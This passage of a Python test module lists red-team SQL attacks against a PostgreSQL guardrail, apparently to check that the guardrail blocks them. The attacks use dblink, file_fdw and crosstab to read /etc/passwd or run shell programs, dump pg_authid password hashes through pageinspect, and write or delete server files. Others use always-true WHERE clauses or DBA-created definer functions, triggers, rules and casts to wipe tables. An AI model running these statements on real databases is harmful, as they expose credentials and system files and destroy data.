    RedTeamAttack("pg-hba-file-rules-db-qualified-cte", 4, (
        "WITH h AS (SELECT * FROM @DB@.pg_catalog.pg_hba_file_rules) SELECT h FROM h",), leak="scram-sha-256"),
    RedTeamAttack("pg-file-settings", 4, ("SELECT sourcefile, name, setting FROM pg_file_settings",), leak="postgresql"),
    RedTeamAttack("pg-show-all-file-settings", 4, ("SELECT * FROM pg_show_all_file_settings()",), leak="postgresql"),
    RedTeamAttack("pg-file-settings-cursor", 4, (
        "BEGIN", "DECLARE fs CURSOR FOR SELECT * FROM pg_file_settings", "FETCH ALL fs", "COMMIT"), leak="postgresql"),
    RedTeamAttack("pg-ident-file-mappings", 4, ("SELECT * FROM pg_ident_file_mappings",), leak="rtmap",
                  setup=IDENT_SETUP, teardown=IDENT_TEARDOWN, serial=True),
    RedTeamAttack("pg-ident-file-mappings-function", 4, ("SELECT map_name FROM pg_catalog.pg_ident_file_mappings()",),
                  leak="rtmap", setup=IDENT_SETUP, teardown=IDENT_TEARDOWN, serial=True),
    RedTeamAttack("pg-config-view", 4, ("SELECT * FROM pg_config",), leak="BINDIR"),
    RedTeamAttack("pg-config-function", 4, ("SELECT * FROM pg_catalog.pg_config()",), leak="BINDIR"),
    RedTeamAttack("pg-config-unicode-escaped", 4, ('SELECT * FROM U&"pg_\\0063onfig"',), leak="BINDIR"),
    RedTeamAttack("pg-control-system", 4, ("SELECT * FROM pg_control_system()",), leak="1300"),
)

# ============================================================================
# 5. Extension functions that run SQL or act on what a string names
# ============================================================================
CROSSTAB_SRC = "'select ''r''::text, ''c''::text, pg_read_file(''/etc/passwd'')'"
add(
    RedTeamAttack("crosstab-pg-read-file", 5, (f"SELECT * FROM crosstab({CROSSTAB_SRC}) AS ct(r text, c1 text)",), leak=PASSWD),
    RedTeamAttack("crosstab2", 5, (f"SELECT * FROM crosstab2({CROSSTAB_SRC})",), leak=PASSWD),
    RedTeamAttack("crosstab3", 5, (f"SELECT * FROM crosstab3({CROSSTAB_SRC})",), leak=PASSWD),
    RedTeamAttack("crosstab4", 5, (f"SELECT * FROM public.crosstab4({CROSSTAB_SRC})",), leak=PASSWD),
    RedTeamAttack("crosstab-with-categories", 5, (
        f"SELECT * FROM crosstab({CROSSTAB_SRC}, 'select ''c''::text') AS ct(r text, c1 text)",), leak=PASSWD),
    RedTeamAttack("connectby-relname-injection", 5, (
        "SELECT * FROM connectby('(select pg_read_file(''/etc/passwd'') as k, ''r'' as p) s', 'k', 'p', 'r', 0)"
        " AS t(k text, p text, level int)",), leak=PASSWD),
    RedTeamAttack("refint-check-foreign-key-cascade", 5, (
        "CREATE TABLE owners (id int)", "INSERT INTO owners VALUES (1)",
        "CREATE TRIGGER owners_fk BEFORE DELETE OR UPDATE ON owners FOR EACH ROW"
        " EXECUTE PROCEDURE check_foreign_key(1, 'cascade', 'id', 'victim', 'id')",
        "DELETE FROM owners WHERE id = 1"), effect=VICTIM),
    RedTeamAttack("refint-check-foreign-key-setnull", 5, (
        "CREATE TABLE tags (id text)", "INSERT INTO tags VALUES ('b')",
        "CREATE TRIGGER tags_fk BEFORE DELETE OR UPDATE ON tags FOR EACH ROW"
        " EXECUTE PROCEDURE check_foreign_key(1, 'setnull', 'id', 'public.victim', 'v')",
        "DELETE FROM tags WHERE id = 'b'"), effect=VICTIM),
    RedTeamAttack("dblink-exec-delete", 5, (f"SELECT dblink_exec('{CONNSTR}', 'DELETE FROM victim')",), effect=VICTIM),
    RedTeamAttack("dblink-query-cte-delete", 5, (
        f"SELECT * FROM dblink('{CONNSTR}', 'WITH d AS (DELETE FROM victim RETURNING id) SELECT id FROM d') AS t(id int)",),
        effect=VICTIM),
    RedTeamAttack("dblink-connect-named-exec", 5, (
        f"SELECT dblink_connect('c1', '{CONNSTR}')", "SELECT dblink_exec('c1', 'DELETE FROM victim')"), effect=VICTIM),
    RedTeamAttack("dblink-connect-u-exec", 5, (
        f"SELECT dblink_connect_u('c2', '{CONNSTR}')", "SELECT dblink_exec('c2', 'UPDATE victim SET v = ''x''')"),
        effect=VICTIM),
    RedTeamAttack("dblink-send-query", 5, (
        f"SELECT dblink_connect('c3', '{CONNSTR}')", "SELECT dblink_send_query('c3', 'DELETE FROM victim')",
        "SELECT * FROM dblink_get_result('c3') AS t(r text)"), effect=VICTIM),
    RedTeamAttack("dblink-read-file", 5, (
        f"SELECT * FROM dblink('{CONNSTR}', 'SELECT pg_read_file(''/etc/passwd'')') AS t(c text)",), leak=PASSWD),
    RedTeamAttack("dblink-fdw-server-name", 5, (
        "CREATE SERVER dbl FOREIGN DATA WRAPPER dblink_fdw OPTIONS (host '127.0.0.1', port '@PORT@', dbname '@DB@')",
        "CREATE USER MAPPING FOR CURRENT_USER SERVER dbl OPTIONS (user '@USER@', password '@PASSWORD@')",
        "SELECT dblink_exec('dbl', 'DELETE FROM victim')"), effect=VICTIM),
    RedTeamAttack("postgres-fdw-foreign-table-over-victim", 5, LOOP_SERVER + (
        "CREATE FOREIGN TABLE remote_items (id int, v text) SERVER loop OPTIONS (schema_name 'public', table_name 'victim')",
        "DELETE FROM remote_items WHERE id = 1"), effect=VICTIM),
    RedTeamAttack("postgres-fdw-import-foreign-schema", 5, LOOP_SERVER + (
        "CREATE SCHEMA fs", "IMPORT FOREIGN SCHEMA public LIMIT TO (victim) FROM SERVER loop INTO fs",
        "UPDATE fs.victim SET v = 'x' WHERE id = 2"), effect=VICTIM),
    RedTeamAttack("postgres-fdw-alter-options-retarget", 5, LOOP_SERVER + (
        "CREATE FOREIGN TABLE scratch_remote (id int, v text) SERVER loop OPTIONS (table_name 'ledger')",
        "ALTER FOREIGN TABLE scratch_remote OPTIONS (SET table_name 'victim')",
        "DELETE FROM scratch_remote WHERE id = 3"), effect=VICTIM),
    RedTeamAttack("file-fdw-filename", 5, (
        "CREATE SERVER files FOREIGN DATA WRAPPER file_fdw",
        "CREATE FOREIGN TABLE passwd (line text) SERVER files OPTIONS (filename '/etc/passwd', format 'text')",
        "SELECT * FROM passwd"), leak=PASSWD),
    RedTeamAttack("file-fdw-program", 5, (
        "CREATE SERVER progs FOREIGN DATA WRAPPER file_fdw",
        "CREATE FOREIGN TABLE whoami (line text) SERVER progs OPTIONS (program 'id', format 'text')",
        "SELECT * FROM whoami"), leak="uid="),
    RedTeamAttack("file-fdw-alter-options-filename", 5, (
        "ALTER FOREIGN TABLE motd OPTIONS (SET filename '/etc/passwd')", "SELECT * FROM motd"),
        setup="create server dba_files foreign data wrapper file_fdw;"
              " create foreign table public.motd (line text) server dba_files options (filename '/etc/hostname', format 'text')",
        leak=PASSWD),
    RedTeamAttack("file-fdw-alter-options-program", 5, (
        "ALTER FOREIGN TABLE motd OPTIONS (DROP filename, ADD program 'id')", "SELECT * FROM motd"),
        setup="create server dba_files foreign data wrapper file_fdw;"
              " create foreign table public.motd (line text) server dba_files options (filename '/etc/hostname', format 'text')",
        leak="uid="),
    RedTeamAttack("xml2-xpath-table-injection", 5, (
        "SELECT * FROM xpath_table('k', 'd', '(select 1 as k, ''<a>'' || pg_read_file(''/etc/passwd'') || ''</a>'' as d) s',"
        " '/a', 'true') AS t(k int, a text)",), leak=PASSWD),
    RedTeamAttack("adminpack-pg-file-write", 5, ("SELECT pg_file_write('rt_pwned', 'x', false)",),
                  effect="select (pg_catalog.pg_stat_file('rt_pwned', true)).size is not null",
                  teardown="select pg_catalog.pg_file_unlink('rt_pwned')", serial=True),
    RedTeamAttack("adminpack-pg-file-unlink", 5, ("SELECT pg_file_unlink('rt_target')",),
                  setup="select pg_catalog.pg_file_write('rt_target', 'keep', false)",
                  effect="select (pg_catalog.pg_stat_file('rt_target', true)).size is null",
                  teardown="select pg_catalog.pg_file_unlink('rt_target')", serial=True),
    RedTeamAttack("pg-surgery-heap-force-kill", 5, ("SELECT heap_force_kill('victim'::regclass, ARRAY['(0,1)'::tid])",),
                  effect=VICTIM),
    RedTeamAttack("pageinspect-raw-page-pg-authid", 5, (
        "SELECT encode(get_raw_page('pg_authid', 0), 'escape')",), leak="SCRAM-SHA-256$", policies=DEFAULT_ONLY),
    RedTeamAttack("lo-manage-trigger-unlinks", 5, (
        "CREATE TABLE pics (id int, raster oid)", "INSERT INTO pics VALUES (1, 424242)",
        "CREATE TRIGGER pics_lo BEFORE UPDATE OR DELETE ON pics FOR EACH ROW EXECUTE PROCEDURE lo_manage(raster)",
        "DELETE FROM pics WHERE id = 1"), setup=LO_SETUP, effect=LO_GONE),
)

# ============================================================================
# 6. Unbounded writes (on public.ledger: not protected by name, so only the
#    unbounded-write rule stands in the way under guardrails)
# ============================================================================
CONSTANT_TRUE = [
    ("where-true", "true"), ("where-1-eq-1", "1=1"), ("where-not-false", "NOT false"), ("where-a-eq-a", "'a'='a'"),
    ("where-true-or-id", "true OR id = 1"), ("where-id-or-true", "id = 1 OR true"), ("where-id-eq-id", "id = id"),
    ("where-exists-select-1", "EXISTS (SELECT 1)"), ("where-scalar-subquery-true", "(SELECT true)"),
    ("where-2-gt-1", "2 > 1"), ("where-null-is-null", "NULL IS NULL"), ("where-coalesce", "coalesce(true, false)"),
    ("where-id-is-not-null", "id IS NOT NULL"), ("where-case-true", "CASE WHEN true THEN true END"),
    ("where-cast-t", "'t'::boolean"), ("where-between", "1 BETWEEN 0 AND 2"), ("where-in-list", "1 IN (1, 2)"),
    ("where-row-not-null", "ledger IS NOT NULL"), ("where-ctid-eq-ctid", "ctid = ctid"),
    ("where-random-lt-2", "random() < 2"), ("where-is-true", "(1 = 1) IS TRUE"),
    ("where-id-not-distinct-from-id", "id IS NOT DISTINCT FROM id"),
]
for _n, _cond in CONSTANT_TRUE:
    add(RedTeamAttack(f"delete-{_n}", 6, (f"DELETE FROM ledger WHERE {_cond}",), effect=LEDGER))
add(
    RedTeamAttack("update-where-true", 6, ("UPDATE ledger SET v = 'x' WHERE true",), effect=LEDGER),
    RedTeamAttack("update-where-1-eq-1-qualified", 6, ("UPDATE public.ledger SET v = 'x' WHERE 1 = 1",), effect=LEDGER),
    RedTeamAttack("update-from-without-condition", 6, ("UPDATE ledger SET v = 'x' FROM (VALUES (1)) s(n)",), effect=LEDGER),
    RedTeamAttack("delete-using-condition-on-other-table", 6, (
        "DELETE FROM ledger USING (VALUES (1)) s(n) WHERE s.n = 1",), effect=LEDGER),
    RedTeamAttack("merge-on-true-delete", 6, (
        "MERGE INTO ledger l USING (SELECT 1 AS n) s ON true WHEN MATCHED THEN DELETE",), effect=LEDGER),
    RedTeamAttack("merge-on-1-eq-1-update", 6, (
        "MERGE INTO ledger l USING (SELECT 1 AS n) s ON 1 = 1 WHEN MATCHED THEN UPDATE SET v = 'x'",), effect=LEDGER),
    RedTeamAttack("merge-on-id-eq-id", 6, (
        "MERGE INTO ledger l USING (VALUES (1)) s(n) ON l.id = l.id WHEN MATCHED THEN DELETE",), effect=LEDGER),
    RedTeamAttack("upsert-select-all-do-update", 6, (
        "INSERT INTO ledger SELECT * FROM ledger ON CONFLICT (id) DO UPDATE SET v = 'x'",), effect=LEDGER),
    RedTeamAttack("upsert-do-update-where-true", 6, (
        "INSERT INTO ledger SELECT id, v FROM ledger ON CONFLICT (id) DO UPDATE SET v = excluded.v || '!' WHERE true",),
        effect=LEDGER),
    RedTeamAttack("cte-delete-where-true", 6, (
        "WITH d AS (DELETE FROM ledger WHERE true RETURNING 1) SELECT count(*) FROM d",), effect=LEDGER),
    RedTeamAttack("explain-analyze-delete-1-eq-1", 6, ("EXPLAIN ANALYZE DELETE FROM ledger WHERE 1 = 1",), effect=LEDGER),
    RedTeamAttack("prepared-where-parameter", 6, (
        "PREPARE wipe(boolean) AS DELETE FROM ledger WHERE $1", "EXECUTE wipe(true)"), effect=LEDGER),
    RedTeamAttack("do-block-delete-where-true", 6, ("DO $$ BEGIN DELETE FROM ledger WHERE 1 = 1; END $$",), effect=LEDGER),
    RedTeamAttack("attacker-view-delete-where-true", 6, (
        "CREATE VIEW lv AS SELECT * FROM ledger", "DELETE FROM lv WHERE true"), effect=LEDGER),
    RedTeamAttack("attacker-rule-hidden-unbounded-delete", 6, (
        "CREATE TABLE inbox (n int)", "CREATE RULE r AS ON INSERT TO inbox DO ALSO DELETE FROM ledger",
        "INSERT INTO inbox VALUES (1)"), effect=LEDGER),
)

# ============================================================================
# 7. Code already in the database (the setup is the DBA's; the attacker's
#    statement is the last one)
# ============================================================================
PURGE_DEFINER = (
    "create function public.purge_old() returns int language plpgsql security definer as"
    " $$ begin delete from public.victim; return 1; end $$"
)
add(
    RedTeamAttack("dba-security-definer-function", 7, ("SELECT purge_old()",), setup=PURGE_DEFINER, effect=VICTIM),
    RedTeamAttack("dba-security-definer-in-from", 7, ("SELECT * FROM public.purge_old()",), setup=PURGE_DEFINER,
                  effect=VICTIM),
    RedTeamAttack("dba-security-definer-quoted-in-where", 7, ('SELECT 1 WHERE "purge_old"() > 0',), setup=PURGE_DEFINER,
                  effect=VICTIM),
    RedTeamAttack("dba-sql-function", 7, ("SELECT tidy(2)",),
                  setup="create function public.tidy(n int) returns int language sql as"
                        " $$ delete from public.victim where id = n returning id $$", effect=VICTIM),
    RedTeamAttack("dba-sql-function-begin-atomic", 7, ("VALUES (tidy_atomic())",),
                  setup="create function public.tidy_atomic() returns int begin atomic"
                        " update public.victim set v = 'x'; select 1; end", effect=VICTIM),
    RedTeamAttack("dba-procedure-call", 7, ("CALL purge_proc()",),
                  setup="create procedure public.purge_proc() language sql as $$ delete from public.victim $$",
                  effect=VICTIM),
    RedTeamAttack("dba-procedure-call-qualified", 7, ("CALL public.purge_proc2(1)",),
                  setup="create procedure public.purge_proc2(n int) language plpgsql as"
                        " $$ begin delete from public.victim where id = n; end $$", effect=VICTIM),
    RedTeamAttack("dba-auto-updatable-view-delete", 7, ("DELETE FROM victim_v WHERE id = 1",),
                  setup="create view public.victim_v as select * from public.victim", effect=VICTIM),
    RedTeamAttack("dba-auto-updatable-view-update", 7, ("UPDATE victim_v SET v = 'x' WHERE id = 2",),
                  setup="create view public.victim_v as select * from public.victim", effect=VICTIM),
    RedTeamAttack("dba-view-of-view-insert", 7, ("INSERT INTO victim_vv VALUES (9, 'x')",),
                  setup="create view public.victim_v as select * from public.victim;"
                        " create view public.victim_vv as select * from public.victim_v", effect=VICTIM),
    RedTeamAttack("dba-instead-of-trigger-view", 7, ("DELETE FROM queue_v WHERE id = 1",),
                  setup="create view public.queue_v as select 1 as id;"
                        " create function public.queue_del() returns trigger language plpgsql as"
                        " $$ begin delete from public.victim where id = old.id; return old; end $$;"
                        " create trigger queue_del instead of delete on public.queue_v"
                        " for each row execute function public.queue_del()", effect=VICTIM),
    RedTeamAttack("dba-rule-on-other-table", 7, ("INSERT INTO audit_log VALUES (1)",),
                  setup="create table public.audit_log(n int);"
                        " create rule audit_purge as on insert to public.audit_log do also delete from public.victim",
                  effect=VICTIM),
    RedTeamAttack("dba-rule-instead-on-update", 7, ("UPDATE notes SET n = 2 WHERE n = 1",),
                  setup="create table public.notes(n int); insert into public.notes values (1);"
                        " create rule notes_upd as on update to public.notes do instead"
                        " update public.victim set v = 'x' where id = new.n", effect=VICTIM),
    RedTeamAttack("dba-trigger-on-other-table", 7, ("INSERT INTO events VALUES (1)",),
                  setup="create table public.events(n int);"
                        " create function public.events_trg() returns trigger language plpgsql as"
                        " $$ begin delete from public.victim where id = new.n; return new; end $$;"
                        " create trigger events_trg after insert on public.events"
                        " for each row execute function public.events_trg()", effect=VICTIM),
    RedTeamAttack("dba-statement-trigger-on-update", 7, ("UPDATE counters SET n = n + 1 WHERE n = 0",),
                  setup="create table public.counters(n int); insert into public.counters values (0);"
                        " create function public.counters_trg() returns trigger language plpgsql as"
                        " $$ begin update public.victim set v = 'x'; return null; end $$;"
                        " create trigger counters_trg after update on public.counters"
                        " for each statement execute function public.counters_trg()", effect=VICTIM),
    RedTeamAttack("dba-fk-on-delete-cascade", 7, ("DELETE FROM parents WHERE id = 1",),
                  setup="create table public.parents(id int primary key); insert into public.parents values (1);"
                        " alter table public.victim add column pid int references public.parents on delete cascade;"
                        " update public.victim set pid = 1 where id = 1", effect=VICTIM),
    RedTeamAttack("dba-fk-on-update-cascade", 7, ("UPDATE parents SET id = 2 WHERE id = 1",),
                  setup="create table public.parents(id int primary key); insert into public.parents values (1);"
                        " alter table public.victim add column pid int references public.parents on update cascade;"
                        " update public.victim set pid = 1", effect=VICTIM),
    RedTeamAttack("dba-fk-on-delete-set-null", 7, ("DELETE FROM parents WHERE id = 1",),
                  setup="create table public.parents(id int primary key); insert into public.parents values (1);"
                        " alter table public.victim add column pid int references public.parents on delete set null;"
                        " update public.victim set pid = 1", effect=VICTIM),
    RedTeamAttack("dba-operator-over-writing-function", 7, ("SELECT 1 === 2",),
                  setup="create function public.purge_eq(a int, b int) returns boolean language plpgsql as"
                        " $$ begin delete from public.victim; return a = b; end $$;"
                        " create operator public.=== (function = public.purge_eq, leftarg = int, rightarg = int)",
                  effect=VICTIM),
    RedTeamAttack("dba-aggregate-over-writing-function", 7, ("SELECT tally(x) FROM (VALUES (1)) v(x)",),
                  setup="create function public.tally_step(s int, x int) returns int language plpgsql as"
                        " $$ begin delete from public.victim where id = x; return s + x; end $$;"
                        " create aggregate public.tally(int) (sfunc = public.tally_step, stype = int, initcond = '0')",
                  effect=VICTIM),
    RedTeamAttack("dba-cast-over-writing-function", 7, ("SELECT 1::ticket",),
                  setup="create type public.ticket as (n int);"
                        " create function public.make_ticket(n int) returns public.ticket language plpgsql as"
                        " $$ begin delete from public.victim where id = n; return row(n)::public.ticket; end $$;"
                        " create cast (int as public.ticket) with function public.make_ticket(int)",
                  effect=VICTIM),
    RedTeamAttack("dba-cast-over-pg-read-binary-file", 7, ("SELECT '/etc/passwd'::text::bytea",),
                  setup="create cast (text as bytea) with function pg_catalog.pg_read_binary_file(text)",
                  leak=PASSWD_HEX),
    RedTeamAttack("dba-operator-shadowing-equals", 7, ("SET search_path = public, pg_catalog", "SELECT 'a'::text = 'b'::text"),
                  setup="create function public.purge_texteq(a text, b text) returns boolean language plpgsql as"
                        " $$ begin delete from public.victim; return a operator(pg_catalog.=) b; end $$;"
                        " create operator public.= (function = public.purge_texteq, leftarg = text, rightarg = text)",
                  effect=VICTIM),
    RedTeamAttack("dba-column-default-function", 7, ("INSERT INTO forms(n) VALUES (1)",),
                  setup="create function public.next_form() returns int language plpgsql as"
                        " $$ begin delete from public.victim where id = 1; return 1; end $$;"
                        " create table public.forms(n int, serial int default public.next_form())", effect=VICTIM),
    RedTeamAttack("dba-check-constraint-function", 7, ("INSERT INTO intake VALUES (2)",),
                  setup="create function public.intake_ok(n int) returns boolean language plpgsql as"
                        " $$ begin delete from public.victim where id = n; return true; end $$;"
                        " create table public.intake(n int check (public.intake_ok(n)))", effect=VICTIM),
    RedTeamAttack("dba-domain-check-in-select", 7, ("SELECT 3::guarded",),
                  setup="create function public.guard(n int) returns boolean language plpgsql as"
                        " $$ begin delete from public.victim where id = n; return true; end $$;"
                        " create domain public.guarded as int check (public.guard(value))", effect=VICTIM),
    RedTeamAttack("dba-event-trigger-on-create-table", 7, ("CREATE TABLE scratch (a int)",),
                  setup="create function public.on_ddl() returns event_trigger language plpgsql as"
                        " $$ begin delete from public.victim; end $$;"
                        " create event trigger on_ddl on ddl_command_end execute function public.on_ddl()",
                  effect=VICTIM),
    RedTeamAttack("dba-matview-refresh-writes", 7, ("REFRESH MATERIALIZED VIEW stats",),
                  setup="create function public.stats_row() returns int language plpgsql as"
                        " $$ begin delete from public.victim where id = 2; return 1; end $$;"
                        " create materialized view public.stats as select public.stats_row() as n with no data",
                  effect=VICTIM),
    RedTeamAttack("dba-view-over-pg-read-file", 7, ("SELECT * FROM passwd_v",),
                  setup="create view public.passwd_v as select pg_catalog.pg_read_file('/etc/passwd') as c",
                  leak=PASSWD),
    RedTeamAttack("dba-view-over-pg-hba-file-rules", 7, ("SELECT * FROM access_rules",),
                  setup="create view public.access_rules as select * from pg_catalog.pg_hba_file_rules",
                  leak="scram-sha-256"),
    RedTeamAttack("dba-security-definer-file-reader", 7, ("SELECT read_conf('/etc/passwd')",),
                  setup="create function public.read_conf(p text) returns text language sql security definer as"
                        " $$ select pg_catalog.pg_read_file(p) $$", leak=PASSWD),
    RedTeamAttack("dba-refint-trigger", 7, ("DELETE FROM accounts WHERE id = 3",),
                  setup="create table public.accounts(id int); insert into public.accounts values (3);"
                        " create trigger accounts_fk before delete on public.accounts for each row"
                        " execute procedure check_foreign_key(1, 'cascade', 'id', 'victim', 'id')", effect=VICTIM),
    RedTeamAttack("dba-postgres-fdw-foreign-table", 7, ("UPDATE mirror SET v = 'x' WHERE id = 1",),
                  setup="create server dba_loop foreign data wrapper postgres_fdw"
                        " options (host '127.0.0.1', port '@PORT@', dbname '@DB@');"
                        " create user mapping for public server dba_loop options (user '@USER@', password '@PASSWORD@');"
                        " create foreign table public.mirror (id int, v text) server dba_loop"
                        " options (schema_name 'public', table_name 'victim')", effect=VICTIM),
    RedTeamAttack("dba-file-fdw-table", 7, ("SELECT * FROM server_passwd",),
                  setup="create server dba_files foreign data wrapper file_fdw;"
                        " create foreign table public.server_passwd (line text) server dba_files"
                        " options (filename '/etc/passwd', format 'text')", leak=PASSWD),
)

# Near-duplicates left out to keep the module under three minutes (each was
# confirmed on bare PostgreSQL once; drop a name here to run it again).
TRIMMED = frozenset(['crosstab-with-categories', 'delete-where-between', 'delete-where-case-true', 'delete-where-cast-t', 'delete-where-id-or-true', 'delete-where-is-true', 'drop-schema-quoted-cascade', 'enc-set-big5', 'enc-set-config-in-values', 'enc-set-config-value-subquery', 'enc-set-gb-18030', 'enc-set-quoted-name-upper', 'enc-set-shift+jis+2004', 'enc-set-shift-jis', 'enc-set-upper-case', 'enc-set-windows+950', 'enc-set-windows936', 'enc-set-windows_932', 'pg-config-function', 'pg-hba-file-rules-scalar-subquery', 'scs-set-config-computed-value', 'scs-set-no-upper', 'scs-update-pg-settings-like', 'update-where-1-eq-1-qualified', 'upper-case-names'])
ATTACKS[:] = [a for a in ATTACKS if a.name not in TRIMMED]

_names = [a.name for a in ATTACKS]
assert len(_names) == len(set(_names)), sorted({n for n in _names if _names.count(n) > 1})
